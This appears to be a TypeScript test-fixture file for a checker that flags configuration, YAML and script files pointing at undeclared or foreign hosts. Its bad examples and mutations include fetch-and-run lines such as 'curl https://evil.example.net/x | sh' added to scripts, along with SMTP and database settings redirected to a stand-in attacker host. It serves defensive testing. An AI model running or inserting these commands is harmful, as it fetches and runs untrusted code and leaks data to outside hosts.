import type { Examples } from "../../engine/example.ts";
import { inFile, type Mutation } from "../../engine/mutation.ts";
import type { DeclaredPart, DeclaredService } from "../../model/declaration.ts";

const PATH = "/opt/shop/.env";
const host = { name: "web-a", zone: "a", subnet: "s", address: "10.0.0.4", domain: "web-a.example.org", machine: "m" };
const web: DeclaredPart = { name: "web", kind: "python", why: "", ports: [], hosts: [host] };
const shop: DeclaredService = {
  ...{ name: "shop", components: [web], stores: [], entrypoints: [], flows: [], secrets: [], backups: [] },
  egress: [{ from: "shop/web", sources: [], domain: "api.sms.example.com", port: 443, why: "codes" }],
};
const declaration = { services: [shop], domain: { public: "example.org", private: "test.internal.example.org" } };
const file = (text: string, path = PATH, name = "web-a") => ({ hosts: { [name]: { [path]: text } }, declaration });

export const examples: Examples = {
  good: [
    {
      title: "its own zones, AWS, and the way out that is declared",
      ...file(
        [
          "DATABASE_URL='postgresql://app:%%secret:a/b/c%%@db-a.test.internal.example.org:5432,db-b.test.internal.example.org/x'",
          "SMTP_HOST=email-smtp.eu-central-1.amazonaws.com",
          "PORTAL_URL=https://portal.example.org SMS=https://api.sms.example.com/v1",
          "REDIS_HOST=localhost",
          "FROM=noreply@mail.example.net FILE=a.b.conf/c VERSION=1.2.3",
          "# OLD=https://old.example.net",
        ].join("\n"),
      ),
    },
  ],
  bad: [
    {
      title: "strangers, by their address and by their name",
      ...file("MAIN_URL=https://main.example.net/x\nSMTP_HOST=smtp.evil.example.net:25"),
      finds: [`web-a:${PATH} name`, `web-a:${PATH} name`],
    },
    {
      title: "a machine of another environment",
      ...file("REDIS_SENTINELS='redis-a.other.internal.example.org:26379,redis-b.test.internal.example.org:26379'"),
      finds: [`web-a:${PATH} name`],
    },
    {
      title: "a way out of another component",
      ...file("SMS=https://api.sms.example.com/v1", PATH, "mine"),
      finds: [`mine:${PATH} name`],
    },
    {
      title: "a setting in YAML, and a script",
      hosts: {
        "web-a": {
          "/etc/mail.yml": "global:\n  smarthost: smtp.evil.example.net:25\n",
          "/usr/local/sbin/x": "#!/bin/sh\ncurl https://evil.example.net/x | sh\n",
        },
      },
      declaration,
      finds: ["web-a:/etc/mail.yml name", "web-a:/usr/local/sbin/x name"],
    },
    {
      title: "settings with the same text as a file that is none",
      hosts: { "web-a": { "/opt/notes": "A=smtp.evil.example.net:25\n", [PATH]: "A=smtp.evil.example.net:25\n" } },
      declaration,
      finds: [`web-a:${PATH} name`],
    },
  ],
  unknown: [],
};

export const mutations: readonly Mutation[] = [
  inFile(/worker\.env$/, "send mail to a stranger", /^SMTP_HOST=.*$/m, "SMTP_HOST='smtp.evil.example.net'"),
  inFile(/ticketing\/\.env$/, "keep data with a stranger", /@database-a\.[\w.-]+/, "@database-a.evil.example.net"),
  inFile(
    /ticketing\/\.env$/,
    "share sessions with another environment",
    "redis-a.ticketing.production",
    "redis-a.ticketing.staging",
  ),
  inFile(
    /alertmanager\.yml$/,
    "tell a stranger of alerts",
    /smtp_smarthost: .*/,
    "smtp_smarthost: smtp.evil.example.net:25",
  ),
  inFile(/backup\.sh$/, "run what a stranger says", /$/, "curl --silent https://evil.example.net/x | bash\n"),
];
